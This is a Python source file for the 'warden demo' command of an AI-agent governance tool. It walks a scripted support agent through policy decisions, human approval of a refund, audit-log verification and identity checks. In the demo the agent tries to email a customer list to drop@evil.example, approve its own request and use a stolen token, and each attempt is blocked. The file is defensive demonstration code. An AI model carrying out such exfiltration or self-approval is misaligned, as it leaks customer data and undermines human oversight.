"""`warden demo`: a scripted support agent governed by the bundled example policy.

Everything is real: the policy is the file shipped in warden/examples, the
Governor is the one applications use, the approval goes through the same
SQLite store `warden approvals` works on. Only the agent is scripted (no
model), so the run is offline, deterministic and takes a second.
"""

from __future__ import annotations

import json
import shutil
import tempfile
from importlib import resources
from pathlib import Path
from typing import Any

import click

from warden.action import Decision, Effect
from warden.audit import open_for_verify, trusted_verifier, verify_log
from warden.errors import ActionBlocked, ApprovalRequired, SelfApprovalError
from warden.governor import DecisionLog, Governor

AGENT: dict[str, Any] = {
    "id": "did:key:z6MkrBp8vN4TqQ7RmZ1sYkD2eXc9FhGjLw3PuVa5bNoEi6Ht",
    "trust": 720,
    "ring": 2,
}
SUPERVISOR = "alice@ops.example"
_STYLE = {Effect.ALLOW: "green", Effect.DENY: "red", Effect.REQUIRE_APPROVAL: "yellow"}


def example_policy() -> Path:
    """Path of the bundled support-agent policy."""
    return Path(str(resources.files("warden.examples").joinpath("support-agent.yaml")))


@click.command()
@click.option(
    "--home",
    default=None,
    type=click.Path(file_okay=False),
    help="State directory to use (default: a temporary one, removed afterwards).",
)
def demo(home: str | None) -> None:
    """Run a scripted support agent under the example policy and show every decision."""
    from rich.console import Console
    from rich.table import Table

    console = Console(
        highlight=False, emoji=False, width=max(110, shutil.get_terminal_size((110, 24)).columns)
    )
    tmp = None if home else tempfile.mkdtemp(prefix="warden-demo-")
    state = Path(home or tmp or ".")
    try:
        log = DecisionLog()
        gov = Governor.from_policy(example_policy(), home=state, sinks=[log])
        policy = gov.policy
        assert policy is not None
        console.print(
            f"[bold]warden demo[/bold]: policy [cyan]{policy.name}[/cyan] "
            f"({len(policy.rules)} rules, default {policy.default.value}, "
            f"{policy.hash[:19]}…)"
        )
        console.print(
            f"agent {AGENT['id'][:24]}… trust {AGENT['trust']} ring {AGENT['ring']}, "
            f"state in {state}\n"
        )

        tickets = {4711: "order 998 arrived broken, refund please"}

        @gov.tool("tickets.read")
        def read_ticket(ticket: int) -> str:
            return tickets[ticket]

        @gov.tool("payments.refund")
        def refund(order: int, amount: float, currency: str = "EUR") -> str:
            return f"refunded {amount} {currency} on order {order}"

        @gov.tool("email.send")
        def send_email(to: str, body: str) -> str:
            return f"sent {len(body)} characters to {to}"

        @gov.tool("account.delete")
        def delete_account(account: str) -> str:  # pragma: no cover - the policy never allows it
            return f"deleted {account}"

        def step(title: str, call: Any, *args: Any, **kwargs: Any) -> Decision | None:
            try:
                result = call(*args, **kwargs)
            except ActionBlocked as blocked:
                d = blocked.decision
                console.print(f"  [{_STYLE[d.effect]}]{d.effect.value:>16}[/] {title}")
                console.print(f"  {'':>16} [dim]{'; '.join(d.reasons)}[/dim]", markup=True)
                return d
            console.print(f"  [green]{'allow':>16}[/] {title} → {result}")
            return None

        with gov.session("ticket-4711", agent=AGENT):
            console.print("[bold]1. the agent works the ticket[/bold]")
            step("tickets.read(4711)", read_ticket, 4711)
            step("payments.refund(998, 30 EUR) — partial goodwill refund", refund, 998, 30)
            pending = step("payments.refund(998, 120 EUR) — the full refund", refund, 998, 120)

            console.print("\n[bold]2. a human approves the refund[/bold]")
            approval_id = pending.approval_id if pending else None
            if approval_id is None:  # pragma: no cover - the policy always asks here
                raise click.ClickException("expected an approval request")
            try:
                gov.approvals.approve(approval_id, AGENT["id"])
            except SelfApprovalError as exc:
                console.print(f"  [red]refused[/red]  the agent tries to approve itself: {exc}")
            req = gov.approvals.approve(approval_id, SUPERVISOR, "customer sent photos")
            console.print(
                f"  [green]approved[/green] {req.id} by {req.decided_by} "
                f"[dim](same as: warden approvals approve {req.id} --as {SUPERVISOR} "
                f"--home {state})[/dim]"
            )
            step("payments.refund(998, 120 EUR) — retried after approval", refund, 998, 120)
            step(
                "payments.refund(998, 120 EUR) — replayed: an approval is good for one call",
                refund,
                998,
                120,
            )

            console.print("\n[bold]3. what the policy stops[/bold]")
            step(
                "email.send(ann@customer.example)",
                send_email,
                "ann@customer.example",
                "Your refund is on its way.",
            )
            step(
                "email.send(drop@evil.example) — exfiltration attempt",
                send_email,
                "drop@evil.example",
                "customer list attached",
            )
            step("payments.refund(998, 5000 EUR)", refund, 998, 5000)
            step("account.delete(ann)", delete_account, "ann")

        with gov.session("ticket-4712", agent={**AGENT, "trust": 150}):
            console.print("\n[bold]4. the same agent after its trust dropped to 150[/bold]")
            step("tickets.read(4711)", read_ticket, 4711)

        _identity_demo(console, state, log, step)

        console.print("\n[bold]the decision log[/bold]")
        table = Table(show_lines=False)
        for col in ("#", "tool", "args", "effect", "rules", "µs"):
            table.add_column(
                col, no_wrap=col != "args", overflow="fold", min_width=24 if col == "args" else None
            )
        for i, (_, action, d) in enumerate(log.entries, 1):
            args = ", ".join(f"{k}={v!r}" for k, v in action.args.items())
            args = args if len(args) <= 40 else args[:37] + "..."
            table.add_row(
                str(i),
                action.tool,
                args,
                f"[{_STYLE[d.effect]}]{d.effect.value}[/]",
                ", ".join(d.rules) or _no_rule(d),
                f"{d.elapsed_ns / 1000:.1f}",
            )
        console.print(table)
        counts = {e: sum(1 for _, _, d in log.entries if d.effect is e) for e in Effect}
        console.print(
            f"{len(log.entries)} decisions: {counts[Effect.ALLOW]} allowed, "
            f"{counts[Effect.DENY]} denied, {counts[Effect.REQUIRE_APPROVAL]} waited "
            "for a human. Nothing the policy denied ran."
        )

        console.print("\n[bold]the audit log[/bold]")
        audit = gov.audit
        assert audit is not None
        note = audit.checkpoint()
        audit.close()
        store = open_for_verify(audit.path)
        verifier, _ = trusted_verifier(store, None)
        report = verify_log(store, verifier, earlier=note)
        kinds: dict[str, int] = {}
        for _, _, data, _ in store.scan():
            kind = json.loads(data)["type"]
            kinds[kind] = kinds.get(kind, 0) + 1
        store.close()
        summary = ", ".join(f"{n} {k}" for k, n in kinds.items())
        console.print(f"  {report.size} records ({summary}) in {audit.path}", markup=False)
        console.print(
            f"  verified: every record re-hashed, {report.nodes} Merkle nodes checked, "
            f"root {report.root.hex()[:16]}…"
        )
        console.print("  signed checkpoint (C2SP tlog-checkpoint, Ed25519):")
        for line in note.rstrip("\n").splitlines():
            console.print(f"    {line}", markup=False, soft_wrap=True)
        if tmp:
            console.print(
                "  [dim](`warden demo --home DIR` keeps the state; then try "
                "`warden audit verify --home DIR`)[/dim]"
            )
        else:
            console.print(f"  [dim]check it yourself: warden audit verify --home {state}[/dim]")
    except ApprovalRequired as exc:  # pragma: no cover - surfaced by step()
        raise click.ClickException(str(exc)) from None
    finally:
        if tmp:
            shutil.rmtree(tmp, ignore_errors=True)


def _no_rule(d: Decision) -> str:
    """What decided when no rule did: the identity step, or the policy default."""
    return "(identity)" if d.reasons and d.reasons[0].startswith("identity:") else "(default)"


def _identity_demo(console: Any, state: Path, log: DecisionLog, step: Any) -> None:
    """Part 5: the same policy with identity on; the agent proves who it is."""
    from warden.errors import CredentialError
    from warden.identity import Identity, issue, make_proof
    from warden.identity.gate import IdentityConfig

    console.print("\n[bold]5. identity on: the agent proves who it is[/bold]")
    authority, agent, thief = Identity.generate(), Identity.generate(), Identity.generate()
    caps: list[Any] = ["tickets.*", {"tool": "payments.refund", "args": {"amount": {"max": 50}}}]
    token = issue(authority, agent.did, caps, audience="support", ttl=3600, ring=2)
    gov = Governor.from_policy(
        example_policy(),
        home=state / "identity",
        audit=False,
        sinks=[log],
        identity=IdentityConfig(roots=[authority.did], audience="support"),
    )
    gate = gov.identity
    assert gate is not None
    console.print(
        f"  credential for {agent.did[:24]}…: tickets.*, refunds up to 50, ring 2\n"
        f"  [dim](a {len(token)}-byte JWS signed by the authority {authority.did[:24]}…)[/dim]"
    )
    try:
        gate.authenticate(token, make_proof(thief, token, gate.challenge(), "support"))
    except CredentialError as exc:
        console.print(f"  [red]refused[/red]  a stolen copy of the token: {exc}", markup=True)
    verified = gate.authenticate(token, make_proof(agent, token, gate.challenge(), "support"))
    console.print("  [green]verified[/green] the agent signed a fresh challenge with its key")

    @gov.tool("tickets.read")
    def read_ticket(ticket: int) -> str:
        return f"ticket {ticket}"

    @gov.tool("payments.refund")
    def refund(order: int, amount: float, currency: str = "EUR") -> str:
        return f"refunded {amount} {currency} on order {order}"

    # The host claims trust 1000 and ring 0; policy sees the verified values instead.
    with gov.session(verified.session, agent={"trust": 1000, "ring": 0}):
        step("tickets.read(4711) — as the verified agent", read_ticket, 4711)
        step("payments.refund(998, 30 EUR) — within the credential", refund, 998, 30)
        step("payments.refund(998, 120 EUR) — beyond the credential", refund, 998, 120)
    step("tickets.read(4711) — with no verified session", read_ticket, 4711)
